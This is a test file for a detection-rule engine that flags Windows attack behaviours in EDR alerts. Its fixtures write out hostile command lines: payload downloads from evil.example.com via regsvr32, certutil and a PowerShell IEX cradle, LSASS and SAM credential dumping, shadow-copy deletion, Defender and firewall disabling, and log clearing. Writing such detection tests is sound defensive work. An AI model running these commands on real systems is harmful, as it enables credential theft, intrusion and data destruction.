import { HEURISTICS, evaluateHeuristics } from '../../../lambdas/core/enrich';
import type { HeuristicRule } from '../../../lambdas/core/enrich';
import type { Alert } from '../../../lambdas/core/model/alert';
import {
  ENCODED_COMMAND,
  PROCSRV_IMAGE,
  RUN_KEY,
  RUN_KEY_POWERSHELL,
  benignDnsAlert,
  encodedPowerShellAlert,
  lsassAccessAlert,
  makeAlert,
  procsrvConnectAlert,
  procsrvRunKeyAlert,
  runKeyAlert,
} from './factories';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

/** The evidence of one rule on an alert, or undefined when it does not fire. */
function evidenceOf(id: string, alert: Alert): string | undefined {
  return evaluateHeuristics(alert).find((h) => h.id === id)?.evidence;
}

function processAlert(image: string, commandLine: string, parentImage?: string): Alert {
  return makeAlert({
    process: { image, commandLine, ...(parentImage !== undefined ? { parent: { image: parentImage } } : {}) },
  });
}

function runValueAlert(valueName: string, valueData: string, writer = POWERSHELL, key = RUN_KEY): Alert {
  return makeAlert({
    eventType: 'registry_value_set',
    eventCode: 13,
    process: { image: writer },
    registry: { operation: 'SetValue', key, valueName, valueData },
  });
}

describe('the reference Run-key alert', () => {
  it('fires the five anomalies the reference ticket lists, in table order', () => {
    expect(evaluateHeuristics(runKeyAlert()).map((h) => [h.id, h.evidence])).toEqual([
      ['masquerading-name', 'WindowsSecurityUpdate → C:\\ProgramData\\Microsoft\\Drivers\\security.dll'],
      ['lolbin-proxy-execution', 'rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow'],
      ['unusual-path', 'C:\\ProgramData\\Microsoft\\Drivers\\security.dll'],
      ['powershell-evasion', '-WindowStyle Hidden'],
      [
        'autostart-by-nonsystem-process',
        'powershell.exe wrote HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsSecurityUpdate',
      ],
    ]);
  });

  it('carries each rule’s title, weight, explanation, and the techniques and behaviours it shows', () => {
    const [first] = evaluateHeuristics(runKeyAlert());
    expect(first).toEqual({
      id: 'masquerading-name',
      title: 'Name mimics a Windows component',
      weight: 20,
      explanation: HEURISTICS[0].explanation,
      evidence: 'WindowsSecurityUpdate → C:\\ProgramData\\Microsoft\\Drivers\\security.dll',
      techniques: ['T1036.005'],
      behaviours: ['evasion'],
    });
  });

  it('names the technique each hit shows: the Run key is T1547.001, hidden PowerShell T1059.001 and T1564.003', () => {
    const byId = new Map(evaluateHeuristics(runKeyAlert()).map((h) => [h.id, h.techniques]));
    expect(byId.get('autostart-by-nonsystem-process')).toEqual(['T1547.001']);
    expect(byId.get('lolbin-proxy-execution')).toEqual(['T1218.011']);
    expect(byId.get('powershell-evasion')).toEqual(['T1059.001', 'T1564.003']);
    expect(byId.get('unusual-path')).toEqual([]);
  });

  it('fires nothing on a benign DNS query', () => {
    expect(evaluateHeuristics(benignDnsAlert())).toEqual([]);
  });
});

describe('masquerading-name', () => {
  it('does not fire on a Microsoft-named Run value that starts installed software', () => {
    const alert = runValueAlert(
      'MicrosoftEdgeAutoLaunch_0A1B2C',
      '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window',
    );
    expect(evidenceOf('masquerading-name', alert)).toBeUndefined();
  });

  it('does not fire on a plain name, even one that runs from System32', () => {
    expect(evidenceOf('masquerading-name', procsrvRunKeyAlert())).toBeUndefined();
  });

  it('fires on a Windows-named Run value that hands an inline script to PowerShell', () => {
    const alert = runValueAlert('Windows Defender Helper', 'powershell -w hidden -c "iex $env:x"');
    expect(evidenceOf('masquerading-name', alert)).toBe(
      'Windows Defender Helper → powershell -w hidden -c "iex $env:x"',
    );
  });

  it('fires on svchost.exe outside the Windows directory, not inside it', () => {
    expect(evidenceOf('masquerading-name', processAlert('C:\\Users\\Public\\svchost.exe', 'svchost'))).toBe(
      'C:\\Users\\Public\\svchost.exe',
    );
    expect(
      evidenceOf('masquerading-name', processAlert('C:\\Windows\\System32\\svchost.exe', 'svchost -k')),
    ).toBeUndefined();
  });

  it('fires on a misspelt system process name', () => {
    expect(evidenceOf('masquerading-name', processAlert('C:\\Windows\\System32\\scvhost.exe', 'x'))).toBe(
      'C:\\Windows\\System32\\scvhost.exe',
    );
    expect(evidenceOf('masquerading-name', processAlert('C:\\Windows\\lsasss.exe', 'x'))).toBe(
      'C:\\Windows\\lsasss.exe',
    );
  });

  it('does not fire on Microsoft’s own per-user installs in AppData', () => {
    const sharepoint = processAlert(
      'C:\\Users\\jw\\AppData\\Local\\Microsoft\\OneDrive\\24.1.0\\Microsoft.SharePoint.exe',
      'Microsoft.SharePoint.exe',
    );
    expect(evidenceOf('masquerading-name', sharepoint)).toBeUndefined();
    expect(evidenceOf('unusual-path', sharepoint)).toBeUndefined();
    const fake = processAlert('C:\\Users\\jw\\AppData\\Roaming\\Microsoft.SharePoint.exe', 'x');
    expect(evidenceOf('masquerading-name', fake)).toBe('C:\\Users\\jw\\AppData\\Roaming\\Microsoft.SharePoint.exe');
  });

  it('fires on a Windows-named task running from AppData, not on Windows’ own task', () => {
    const fake = makeAlert({
      task: { name: '\\WindowsUpdateCheck', action: 'C:\\Users\\q\\AppData\\Roaming\\wu.exe' },
    });
    expect(evidenceOf('masquerading-name', fake)).toBe('\\WindowsUpdateCheck → C:\\Users\\q\\AppData\\Roaming\\wu.exe');
    const real = makeAlert({
      task: {
        name: '\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start',
        action: 'C:\\Windows\\system32\\sc.exe start wuauserv',
      },
    });
    expect(evidenceOf('masquerading-name', real)).toBeUndefined();
  });
});

describe('lolbin-proxy-execution', () => {
  it('does not fire when the DLL is in System32', () => {
    expect(evidenceOf('lolbin-proxy-execution', procsrvRunKeyAlert())).toBeUndefined();
  });

  it('does not fire on a bare DLL name, which loads from System32', () => {
    const alert = processAlert(
      'C:\\Windows\\System32\\rundll32.exe',
      'rundll32.exe shell32.dll,Control_RunDLL desk.cpl',
    );
    expect(evidenceOf('lolbin-proxy-execution', alert)).toBeUndefined();
  });

  it('fires on regsvr32 fetching a scriptlet, with the URL defanged', () => {
    const alert = processAlert(
      'C:\\Windows\\System32\\regsvr32.exe',
      'regsvr32 /s /n /u /i:http://evil.example.com/x.sct scrobj.dll',
    );
    expect(evidenceOf('lolbin-proxy-execution', alert)).toBe('regsvr32 /s /n /u /i:hxxp://evil[.]example[.]com/x.sct');
  });

  it('fires on mshta running inline script', () => {
    const alert = processAlert(
      'C:\\Windows\\System32\\mshta.exe',
      'mshta vbscript:Execute("CreateObject(""WScript.Shell"")")',
    );
    expect(evidenceOf('lolbin-proxy-execution', alert)).toBe('mshta vbscript:');
  });

  it('fires on comsvcs.dll MiniDump although the DLL is in System32', () => {
    const alert = processAlert(
      'C:\\Windows\\System32\\rundll32.exe',
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 680 C:\\Users\\Public\\l.dmp full',
    );
    expect(evidenceOf('lolbin-proxy-execution', alert)).toBe(
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump',
    );
  });

  it('fires on certutil downloading and on msiexec installing from a user folder', () => {
    const certutil = processAlert(
      'C:\\Windows\\System32\\certutil.exe',
      'certutil -urlcache -split -f https://evil.example.com/p.exe C:\\Users\\Public\\p.exe',
    );
    expect(evidenceOf('lolbin-proxy-execution', certutil)).toBe(
      'certutil -urlcache -split -f hxxps://evil[.]example[.]com/p.exe',
    );
    const msiexec = processAlert('C:\\Windows\\System32\\msiexec.exe', 'msiexec /q /i C:\\Users\\Public\\x.msi');
    expect(evidenceOf('lolbin-proxy-execution', msiexec)).toBe('msiexec /q /i C:\\Users\\Public\\x.msi');
  });

  it('does not mistake a LOLBin’s name inside another word for an invocation', () => {
    const alert = processAlert('C:\\Windows\\System32\\notepad.exe', 'notepad C:\\Users\\Public\\rundll32-notes.dll');
    expect(evidenceOf('lolbin-proxy-execution', alert)).toBeUndefined();
  });
});

describe('unusual-path', () => {
  it('fires on an executable dropped in Temp', () => {
    const alert = makeAlert({ eventType: 'file_create', file: { path: 'C:\\Users\\jw\\AppData\\Local\\Temp\\a.exe' } });
    expect(evidenceOf('unusual-path', alert)).toBe('C:\\Users\\jw\\AppData\\Local\\Temp\\a.exe');
    const windowsTemp = makeAlert({ eventType: 'file_create', file: { path: 'C:\\Windows\\Temp\\svc.dll' } });
    expect(evidenceOf('unusual-path', windowsTemp)).toBe('C:\\Windows\\Temp\\svc.dll');
  });

  it('does not flag an unknown binary in System32 by its path alone', () => {
    expect(evidenceOf('unusual-path', procsrvConnectAlert())).toBeUndefined();
  });

  it('does not flag Defender’s platform folder under ProgramData', () => {
    const alert = processAlert(
      'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2009.7-0\\MsMpEng.exe',
      'MsMpEng.exe',
    );
    expect(evidenceOf('unusual-path', alert)).toBeUndefined();
  });

  it('does not flag a temp folder inside Program Files', () => {
    const alert = processAlert('C:\\Program Files\\temp\\MsSense.exe', 'MsSense.exe');
    expect(evidenceOf('unusual-path', alert)).toBeUndefined();
  });

  it('does not flag a script, only executables and DLLs', () => {
    const alert = makeAlert({ eventType: 'file_create', file: { path: 'C:\\Users\\jw\\AppData\\Local\\Temp\\a.ps1' } });
    expect(evidenceOf('unusual-path', alert)).toBeUndefined();
  });

  it('sees through environment variables and .. in paths', () => {
    expect(evidenceOf('unusual-path', runValueAlert('x', 'rundll32 %APPDATA%\\x.dll,Start'))).toBe('%APPDATA%\\x.dll');
    const traversal = makeAlert({ file: { path: 'C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll' } });
    expect(evidenceOf('unusual-path', traversal)).toBe('C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll');
  });
});

describe('powershell-evasion', () => {
  it('lists every marker of an encoded, hidden PowerShell', () => {
    expect(evidenceOf('powershell-evasion', encodedPowerShellAlert())).toBe(
      `-w hidden, -enc ${ENCODED_COMMAND.slice(0, 34)}…, -nop`,
    );
  });

  it('fires on an execution policy bypass and on a download cradle', () => {
    expect(evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell -ep bypass -File C:\\x.ps1'))).toBe(
      '-ep bypass',
    );
    const cradle = processAlert(
      POWERSHELL,
      'powershell "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example.com/x\')"',
    );
    expect(evidenceOf('powershell-evasion', cradle)).toBe('IEX');
  });

  it('accepts the dashes and abbreviations PowerShell accepts', () => {
    expect(evidenceOf('powershell-evasion', processAlert(POWERSHELL, `powershell \u2013e ${ENCODED_COMMAND}`))).toMatch(
      /^\u2013e SQBF/,
    );
    expect(evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell /win hid -c x'))).toBe('/win hid');
  });

  it('finds PowerShell launched from a Run value', () => {
    const alert = runValueAlert(
      'Updater',
      'powershell.exe -windowstyle hidden -file C:\\Users\\Public\\u.ps1',
      'C:\\Windows\\regedit.exe',
    );
    expect(evidenceOf('powershell-evasion', alert)).toBe('-windowstyle hidden');
  });

  it('does not fire on -NoProfile alone or on a normal window', () => {
    expect(
      evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell.exe -NoProfile -File C:\\s\\b.ps1')),
    ).toBeUndefined();
    expect(
      evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell -WindowStyle Normal')),
    ).toBeUndefined();
  });

  it('does not fire on another program’s -w hidden', () => {
    expect(evidenceOf('powershell-evasion', processAlert('C:\\Tools\\conv.exe', 'conv.exe -w hidden'))).toBeUndefined();
  });
});

describe('office-spawns-shell', () => {
  it('fires on Word starting PowerShell', () => {
    expect(evidenceOf('office-spawns-shell', encodedPowerShellAlert())).toBe('WINWORD.EXE → powershell.exe');
  });

  it('does not fire on Word starting its print helper, or on Explorer starting PowerShell', () => {
    const print = processAlert(
      'C:\\Windows\\splwow64.exe',
      'splwow64 8192',
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    );
    expect(evidenceOf('office-spawns-shell', print)).toBeUndefined();
    expect(
      evidenceOf('office-spawns-shell', processAlert(POWERSHELL, 'powershell', 'C:\\Windows\\explorer.exe')),
    ).toBeUndefined();
  });
});

describe('autostart-by-nonsystem-process', () => {
  it('fires on an unknown program writing a Run value', () => {
    expect(evidenceOf('autostart-by-nonsystem-process', procsrvRunKeyAlert())).toBe(
      'procsrv.exe wrote HKU\\S-1-5-21-3940915590-64593676-1414006259-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Local Network Manager',
    );
  });

  it('fires on reg.exe setting a logon script', () => {
    const alert = runValueAlert(
      'UserInitMprLogonScript',
      'C:\\Users\\wardog\\AppData\\Local\\Temp\\art.bat',
      'C:\\windows\\system32\\reg.exe',
      'HKU\\S-1-5-21-3940915590-64593676-1414006259-500\\Environment',
    );
    expect(evidenceOf('autostart-by-nonsystem-process', alert)).toBe(
      'reg.exe wrote HKU\\S-1-5-21-3940915590-64593676-1414006259-500\\Environment\\UserInitMprLogonScript',
    );
  });

  it('does not fire when a Windows service or Windows Installer writes the Run key', () => {
    expect(
      evidenceOf(
        'autostart-by-nonsystem-process',
        runValueAlert('A', 'C:\\x.exe', 'C:\\Windows\\System32\\svchost.exe'),
      ),
    ).toBeUndefined();
    expect(
      evidenceOf(
        'autostart-by-nonsystem-process',
        runValueAlert('A', 'C:\\x.exe', 'C:\\Windows\\System32\\msiexec.exe'),
      ),
    ).toBeUndefined();
  });

  it('does not fire on PowerShell writing a key that starts nothing', () => {
    const alert = runValueAlert(
      'Blob',
      'Binary Data',
      POWERSHELL,
      'HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates',
    );
    expect(evidenceOf('autostart-by-nonsystem-process', alert)).toBeUndefined();
  });

  it('does not fire on a Run value being deleted', () => {
    const alert = makeAlert({
      eventType: 'registry_delete',
      process: { image: POWERSHELL },
      registry: { operation: 'DeleteValue', key: RUN_KEY, valueName: 'WindowsSecurityUpdate' },
    });
    expect(evidenceOf('autostart-by-nonsystem-process', alert)).toBeUndefined();
  });

  it('fires on schtasks /create and on a script host writing to the Startup folder', () => {
    const schtasks = processAlert(
      'C:\\Windows\\System32\\schtasks.exe',
      'schtasks.exe /Create /SC DAILY /TN Updater /TR "c:\\x.exe"',
    );
    expect(evidenceOf('autostart-by-nonsystem-process', schtasks)).toBe(
      'schtasks.exe: schtasks.exe /Create /SC DAILY /TN Updater /TR "c:\\x.exe"',
    );
    const startup = makeAlert({
      eventType: 'file_create',
      process: { image: 'C:\\Windows\\System32\\wscript.exe' },
      file: { path: 'C:\\Users\\jw\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk' },
    });
    expect(evidenceOf('autostart-by-nonsystem-process', startup)).toBe(
      'wscript.exe created C:\\Users\\jw\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk',
    );
  });

  it('fires on the PowerShell process that creates the Run value, before the registry event', () => {
    const alert = processAlert(POWERSHELL, RUN_KEY_POWERSHELL, 'C:\\Windows\\explorer.exe');
    const found = evidenceOf('autostart-by-nonsystem-process', alert);
    expect(found).toBe(`powershell.exe: ${RUN_KEY_POWERSHELL.slice(0, 223)}…`);
  });
});

describe('lsass-access', () => {
  it('fires on read access and names the rights', () => {
    expect(evidenceOf('lsass-access', lsassAccessAlert('0x1010'))).toBe(
      'Outflank-Dumpert.exe → lsass.exe, GrantedAccess 0x1010 (PROCESS_VM_READ)',
    );
    expect(evidenceOf('lsass-access', lsassAccessAlert('0x1fffff'))).toBe(
      'Outflank-Dumpert.exe → lsass.exe, GrantedAccess 0x1fffff (PROCESS_ALL_ACCESS)',
    );
  });

  it.each(['0x1410', '0x1438', '0x143a', '0x1040'])('fires on %s', (mask) => {
    expect(evidenceOf('lsass-access', lsassAccessAlert(mask))).toBeDefined();
  });

  it.each(['0x1000', '0x1400', '0x100000'])('does not fire on query-only access %s', (mask) => {
    expect(evidenceOf('lsass-access', lsassAccessAlert(mask))).toBeUndefined();
  });

  it('does not fire on Defender reading LSASS from its platform folder, but does on a fake MsMpEng', () => {
    const real = lsassAccessAlert('0x1410', {
      process: { image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2009.7-0\\MsMpEng.exe' },
    });
    expect(evidenceOf('lsass-access', real)).toBeUndefined();
    const fake = lsassAccessAlert('0x1410', { process: { image: 'C:\\Users\\Public\\MsMpEng.exe' } });
    expect(evidenceOf('lsass-access', fake)).toBe('MsMpEng.exe → lsass.exe, GrantedAccess 0x1410 (PROCESS_VM_READ)');
  });

  it('does not fire on access to another process', () => {
    const alert = lsassAccessAlert('0x1fffff', {
      target: { image: 'C:\\Windows\\notepad.exe', grantedAccess: '0x1fffff' },
    });
    expect(evidenceOf('lsass-access', alert)).toBeUndefined();
  });
});

describe('bidi-override-name', () => {
  it('fires on a right-to-left override in a file name and shows the hidden character', () => {
    const alert = makeAlert({ file: { path: 'C:\\Users\\jw\\Downloads\\invoice\u202Egpj.exe' } });
    expect(evidenceOf('bidi-override-name', alert)).toBe('C:\\Users\\jw\\Downloads\\invoice<U+202E>gpj.exe');
  });

  it('fires on the normalizer’s flag alone', () => {
    expect(evidenceOf('bidi-override-name', makeAlert({ flags: ['bidi-override'] }))).toBe(
      'bidi-override flag set by the normalizer',
    );
  });

  it('does not fire on an ordinary name', () => {
    expect(
      evidenceOf('bidi-override-name', makeAlert({ file: { path: 'C:\\Users\\jw\\invoice.pdf' } })),
    ).toBeUndefined();
  });
});

describe('remote-thread', () => {
  const injection = (overrides: Partial<Alert> = {}): Alert =>
    makeAlert({
      eventType: 'create_remote_thread',
      eventCode: 8,
      process: { pid: 4000, image: POWERSHELL },
      target: { pid: 5100, image: 'C:\\Windows\\System32\\notepad.exe', startFunction: 'LoadLibraryW' },
      ...overrides,
    });

  it('fires on a thread started in another process', () => {
    expect(evidenceOf('remote-thread', injection())).toBe('powershell.exe → notepad.exe (LoadLibraryW)');
  });

  it('does not fire on a thread in the same process, or from csrss', () => {
    expect(evidenceOf('remote-thread', injection({ target: { pid: 4000, image: POWERSHELL } }))).toBeUndefined();
    expect(
      evidenceOf('remote-thread', injection({ process: { pid: 500, image: 'C:\\Windows\\System32\\csrss.exe' } })),
    ).toBeUndefined();
  });

  it('does not fire on a process access event', () => {
    expect(evidenceOf('remote-thread', injection({ eventType: 'process_access', eventCode: 10 }))).toBeUndefined();
  });
});

describe('public-connection-non-browser', () => {
  it('fires on procsrv.exe connecting to a public IP on 443, with the IP defanged', () => {
    expect(evidenceOf('public-connection-non-browser', procsrvConnectAlert())).toBe('procsrv.exe → 162.125.6[.]18:443');
  });

  it('fires on PowerShell connecting to 4444', () => {
    const alert = procsrvConnectAlert({
      process: { image: POWERSHELL },
      network: { dstIp: '194.165.16.89', dstPort: 4444 },
    });
    expect(evidenceOf('public-connection-non-browser', alert)).toBe('powershell.exe → 194.165.16[.]89:4444');
  });

  it('fires on any port, naming web ports T1071.001 and the others T1571 (a beacon on 3389 counts as much as on 443)', () => {
    const on = (dstPort: number) =>
      evaluateHeuristics(procsrvConnectAlert({ network: { dstIp: '162.125.6.18', dstPort } })).find(
        (h) => h.id === 'public-connection-non-browser',
      );
    expect(on(443)).toMatchObject({ evidence: 'procsrv.exe → 162.125.6[.]18:443', techniques: ['T1071.001'] });
    expect(on(3389)).toMatchObject({ evidence: 'procsrv.exe → 162.125.6[.]18:3389', techniques: ['T1571'] });
    expect(on(3389)?.behaviours).toEqual(['outbound']);
  });

  it.each([
    ['a browser', { process: { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' } }],
    ['a private address', { network: { dstIp: '10.0.0.8', dstPort: 443 } }],
    ['a Windows service', { process: { image: 'C:\\Windows\\System32\\svchost.exe' } }],
    ['inbound traffic', { network: { direction: 'inbound' as const, dstIp: '162.125.6.18', dstPort: 443 } }],
  ])('does not fire on %s', (_what, overrides: Partial<Alert>) => {
    expect(evidenceOf('public-connection-non-browser', procsrvConnectAlert(overrides))).toBeUndefined();
  });

  it('needs the process image to judge', () => {
    expect(evidenceOf('public-connection-non-browser', procsrvConnectAlert({ process: { pid: 1 } }))).toBeUndefined();
    expect(PROCSRV_IMAGE).toMatch(/procsrv\.exe$/);
  });
});

describe('the rule table', () => {
  it('has unique ids, positive weights and explanations written as sentences', () => {
    expect(new Set(HEURISTICS.map((r) => r.id)).size).toBe(HEURISTICS.length);
    for (const r of HEURISTICS) {
      expect(r.weight).toBeGreaterThan(0);
      expect(r.explanation).toMatch(/^[A-Z].*\.$/);
      expect(r.title.length).toBeLessThanOrEqual(60);
    }
  });

  it('runs a caller’s own rules, one line of evidence each', () => {
    const rules: HeuristicRule[] = [
      {
        id: 'always',
        title: 'Always',
        weight: 1,
        explanation: 'Always fires.',
        techniques: ['T1059'],
        behaviours: ['execution'],
        test: () => 'a\n  b',
      },
      {
        id: 'never',
        title: 'Never',
        weight: 1,
        explanation: 'Never fires.',
        techniques: [],
        behaviours: [],
        test: () => undefined,
      },
    ];
    expect(evaluateHeuristics(makeAlert(), rules)).toEqual([
      {
        id: 'always',
        title: 'Always',
        weight: 1,
        explanation: 'Always fires.',
        evidence: 'a b',
        techniques: ['T1059'],
        behaviours: ['execution'],
      },
    ]);
  });
});

describe('the behaviours the first version missed', () => {
  const S32 = 'C:\\Windows\\System32\\';
  const hit = (id: string, alert: Alert) => evaluateHeuristics(alert).find((h) => h.id === id);
  const proc = (image: string, commandLine: string, parent?: string): Alert =>
    makeAlert({ process: { image, commandLine, ...(parent !== undefined ? { parent: { image: parent } } : {}) } });

  it.each([
    [
      'comsvcs MiniDump',
      proc(`${S32}rundll32.exe`, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\t\\d.bin full'),
      'T1003.001',
    ],
    [
      'procdump of lsass',
      proc('C:\\Tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe out.dmp'),
      'T1003.001',
    ],
    ['reg save of the SAM hive', proc(`${S32}reg.exe`, 'reg save HKLM\\SAM C:\\Users\\Public\\s'), 'T1003.002'],
    [
      'esentutl /vss of the SAM hive',
      proc(`${S32}esentutl.exe`, 'esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\p\\sam.save'),
      'T1003.002',
    ],
    ['ntdsutil IFM', proc(`${S32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'), 'T1003.003'],
  ])('credential-dumping fires on %s', (_what, alert, technique) => {
    expect(hit('credential-dumping', alert)).toMatchObject({
      techniques: [technique],
      behaviours: ['credential-theft'],
    });
  });

  it('credential-dumping fires on Task Manager writing lsass.DMP, not on an ordinary crash dump', () => {
    const dump = (path: string) =>
      makeAlert({ eventType: 'file_create', process: { image: `${S32}Taskmgr.exe` }, file: { path } });
    expect(hit('credential-dumping', dump('C:\\Users\\a\\AppData\\Local\\Temp\\lsass.DMP'))?.techniques).toEqual([
      'T1003.001',
    ]);
    expect(hit('credential-dumping', dump('C:\\Users\\a\\AppData\\Local\\Temp\\notepad.DMP'))).toBeUndefined();
  });

  it('uac-bypass fires on the mscfile open-command hijack and on eventvwr starting something other than its console', () => {
    const hijack = makeAlert({
      eventType: 'registry_value_set',
      process: { image: `${S32}reg.exe` },
      registry: { key: 'HKU\\S-1-5-21-1-2-3-1104_Classes\\mscfile\\shell\\open\\command', valueData: 'C:\\x.exe' },
    });
    expect(hit('uac-bypass', hijack)?.techniques).toEqual(['T1548.002']);
    expect(hit('uac-bypass', proc('C:\\Users\\Public\\x.exe', 'x.exe', `${S32}eventvwr.exe`))).toBeDefined();
    expect(hit('uac-bypass', proc(`${S32}mmc.exe`, 'mmc.exe eventvwr.msc', `${S32}eventvwr.exe`))).toBeUndefined();
  });

  it('log-clearing fires on wevtutil cl and on the Security log-cleared event, not on a log query', () => {
    expect(hit('log-clearing', proc(`${S32}wevtutil.exe`, 'wevtutil cl Security'))?.techniques).toEqual(['T1685.005']);
    expect(
      hit('log-clearing', makeAlert({ eventType: 'log_cleared', eventName: 'The audit log was cleared' })),
    ).toBeDefined();
    expect(hit('log-clearing', proc(`${S32}wevtutil.exe`, 'wevtutil qe System /c:5'))).toBeUndefined();
  });

  it('defence-impairment fires on Defender switched off, an exclusion, the firewall off, a stopped security service', () => {
    expect(
      hit('defence-impairment', proc(POWERSHELL, 'Set-MpPreference -DisableRealtimeMonitoring $true'))?.techniques,
    ).toEqual(['T1685']);
    expect(
      hit('defence-impairment', proc(POWERSHELL, 'Add-MpPreference -ExclusionPath C:\\ProgramData\\x'))?.techniques,
    ).toEqual(['T1564.012']);
    expect(
      hit('defence-impairment', proc(`${S32}netsh.exe`, 'netsh advfirewall set allprofiles state off'))?.techniques,
    ).toEqual(['T1686.003']);
    expect(hit('defence-impairment', proc(`${S32}sc.exe`, 'sc stop WinDefend'))).toBeDefined();
    expect(hit('defence-impairment', proc(`${S32}sc.exe`, 'sc query WinDefend'))).toBeUndefined();
  });

  it('inhibit-recovery fires on shadow copies deleted and recovery disabled, not on listing them', () => {
    expect(
      hit('inhibit-recovery', proc(`${S32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet')),
    ).toMatchObject({
      techniques: ['T1490'],
      behaviours: ['impact'],
    });
    expect(
      hit('inhibit-recovery', proc(`${S32}bcdedit.exe`, 'bcdedit /set {default} recoveryenabled no')),
    ).toBeDefined();
    expect(hit('inhibit-recovery', proc(`${S32}vssadmin.exe`, 'vssadmin.exe list shadows'))).toBeUndefined();
  });

  it('remote-service fires on PsExec’s service, Impacket’s random one and a remote sc create, not on a Windows binary', () => {
    const service = (name: string, path: string) =>
      makeAlert({ eventType: 'service_install', service: { name, path } });
    expect(hit('remote-service', service('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'))?.techniques).toEqual([
      'T1569.002',
      'T1021.002',
    ]);
    expect(hit('remote-service', service('KxBqTeVW', '%systemroot%\\KxBqTeVW.exe'))).toBeDefined();
    expect(hit('remote-service', service('Spooler', 'C:\\Windows\\explorer.exe'))).toBeUndefined();
    expect(
      hit('remote-service', proc(`${S32}sc.exe`, 'sc \\\\SRV-SQL-02 create upd binPath= c:\\x.exe')),
    ).toBeDefined();
  });

  it('browser-spawns-shell fires on a browser starting a shell directly', () => {
    const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
    expect(hit('browser-spawns-shell', proc(`${S32}cmd.exe`, 'cmd.exe /c whoami', chrome))).toMatchObject({
      techniques: ['T1189', 'T1059.003'],
      behaviours: ['browser-shell', 'execution'],
    });
  });

  it('office-spawns-shell also fires through a second shell the EDR reports as grandparent', () => {
    const alert = makeAlert({
      process: {
        image: POWERSHELL,
        commandLine: 'powershell -c x',
        parent: { image: `${S32}cmd.exe` },
        grandparent: { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
      },
    });
    expect(hit('office-spawns-shell', alert)).toMatchObject({
      evidence: 'WINWORD.EXE → powershell.exe',
      techniques: ['T1204.002', 'T1059.001'],
    });
  });

  it('tool-download fires on curl saving a file from a URL, not on curl reading an API', () => {
    expect(
      hit('tool-download', proc(`${S32}curl.exe`, 'curl.exe -o C:\\Users\\Public\\a.exe http://1.2.3.4/a.exe')),
    ).toBeDefined();
    expect(hit('tool-download', proc(`${S32}curl.exe`, 'curl.exe https://api.example.com/status'))).toBeUndefined();
  });

  it('names each autostart location’s own technique', () => {
    const write = (key: string) =>
      hit(
        'autostart-by-nonsystem-process',
        makeAlert({
          eventType: 'registry_value_set',
          process: { image: `${S32}reg.exe` },
          registry: { key, valueData: 'x' },
        }),
      )?.techniques;
    expect(write('HKU\\S-1-5-21-1\\Environment\\UserInitMprLogonScript')).toEqual(['T1037.001']);
    expect(write('HKLM\\System\\CurrentControlSet\\Services\\evil\\ImagePath')).toEqual(['T1543.003']);
    expect(write('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit')).toEqual(['T1547.004']);
    expect(
      hit('autostart-by-nonsystem-process', proc(`${S32}schtasks.exe`, 'schtasks /create /tn a /tr b'))?.techniques,
    ).toEqual(['T1053.005']);
  });
});
